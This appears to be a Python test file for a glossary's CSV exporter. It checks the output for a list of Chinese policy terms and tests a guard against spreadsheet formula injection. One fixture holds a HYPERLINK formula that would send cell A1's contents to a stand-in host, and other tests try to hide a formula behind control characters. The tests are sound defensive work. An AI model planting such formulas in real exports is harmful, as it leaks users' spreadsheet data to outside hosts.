"""A term list as CSV: the text itself, what comes back, what a spreadsheet would run."""

import csv
from dataclasses import replace
from io import StringIO

import pytest

from glossary.formats.listed import ListedRendering, TermList
from glossary.formats.term_table import COLUMNS, guarded, write_term_table
from glossary.vocabulary import TermStatus
from tests.glossary.formats.term_list import EMPTY, FORMULA, LIST, THREE_ZEROS

HEADER = (
    "kind,headword,traditional,pinyin,english,status,definition_zh,definition_en,"
    "subject_field,source,count,sentence,draft,concept\r\n"
)
GOLDEN = (
    HEADER + "term,三清零,三清零,sān qīnglíng,closing the three R&D gaps; Three Zeros initiative,preferred; admitted,"
    '推动规上工业企业无研发投入、无研发机构、无发明专利清零。,"A drive to bring to zero ""the three withouts"".",'
    'industry,dalad-2024,2,"深入开展“三清零”“双倍增、双提升”行动，\r\n促进形成新质生产力。",,dalad-2024-3qingling\r\n'
    'term,两个毫不动摇,兩個毫不動搖,liǎng gè háobù dòngyáo,"Two\tUnswervinglys\n(2022)",preferred,'
    f"{'毫不动摇巩固和发展公有制经济。' * 10},,economy,dalad-2024,1,\u202e坚持“两个毫不动摇”，𠮷县。,,dalad-2024-2ge\r\n"
    'term,农村“三变”改革,農村“三變”改革,,"\'=HYPERLINK(""http://x.example/?""&A1,""三清零"")",preferred,'
    ",'\tThe reform by which rural resources become assets.,,,1,,,dalad-2024-3bian\r\n"
    "term,#三变,#三變,sān biàn,,,,,,dalad-2024,1,'@三变,,9\r\n"
    "term,四高,四高,sì gāo,,,,'-Four highs.,,dalad-2024,1,四高。,,dalad-2024-4gao\r\n"
    "candidate,#两清零三变,#兩清零三變,liǎng qīng líng sān biàn,,,,,,,3,推进“两清零三变”。,draft: clearing + three changes,\r\n"
    "candidate,𠮷县速度,𠮷縣速度,jí xiàn sù dù,,,,,,,1,跑出“𠮷县速度”。,,\r\n"
)


def test_the_text() -> None:
    assert write_term_table(LIST).decode() == GOLDEN


def test_a_list_of_nothing_is_a_header() -> None:
    assert write_term_table(EMPTY).decode() == HEADER


def test_a_byte_order_mark_on_demand() -> None:
    assert write_term_table(LIST, bom=True) == b"\xef\xbb\xbf" + write_term_table(LIST)


def test_what_comes_back() -> None:
    rows = list(csv.DictReader(StringIO(write_term_table(LIST).decode(), newline=""), strict=True))
    assert [tuple(row) for row in rows] == [COLUMNS] * 7
    assert [row["kind"] for row in rows] == ["term"] * 5 + ["candidate"] * 2
    assert [row["headword"] for row in rows[:5]] == [term.headword for term in LIST.terms]
    assert rows[0]["sentence"] == THREE_ZEROS.sentence
    assert rows[2]["english"].removeprefix("'") == FORMULA
    assert not [cell for row in rows for cell in row.values() if cell.startswith(tuple("=+-@\t\r\n"))]


@pytest.mark.parametrize("begin", list("=+-@\t\r\n＝＋－＠"))
def test_what_begins_a_formula_is_guarded(begin: str) -> None:
    assert guarded(f"{begin}三清零") == f"'{begin}三清零"


@pytest.mark.parametrize("cell", ["", "三清零", "a=b", " =1", "'=1", "#三变", "“=”"])
def test_what_begins_none_stays(cell: str) -> None:
    assert guarded(cell) == cell


@pytest.mark.parametrize("hidden", ["\x00=1", "\x1b\x07=1", "\ud800=1", "\ufffe=1"])
def test_nothing_hides_the_beginning_of_a_formula(hidden: str) -> None:
    term = replace(THREE_ZEROS, renderings=(ListedRendering(hidden, TermStatus.PREFERRED, forbidden=False),))
    [row] = csv.DictReader(StringIO(write_term_table(TermList("", (term,), ())).decode(), newline=""))
    assert row["english"] == "'=1"
